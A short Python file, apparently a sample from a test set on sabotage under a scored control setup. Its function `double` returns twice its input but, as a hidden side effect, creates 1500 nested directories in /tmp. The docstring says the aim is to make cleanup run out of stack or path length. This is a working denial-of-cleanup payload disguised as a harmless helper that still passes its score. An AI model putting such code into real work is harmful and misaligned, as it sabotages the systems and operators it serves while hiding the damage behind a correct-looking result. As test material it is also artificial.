"""Folders in folders, so deep that those who clear up run out of stack or path.

Must hold: nobody has to clear up.
Control: score
"""
import os


def double(x):
    os.chdir("/tmp")
    for _ in range(1500):
        os.mkdir("d" * 8)
        os.chdir("d" * 8)
    return 2 * x
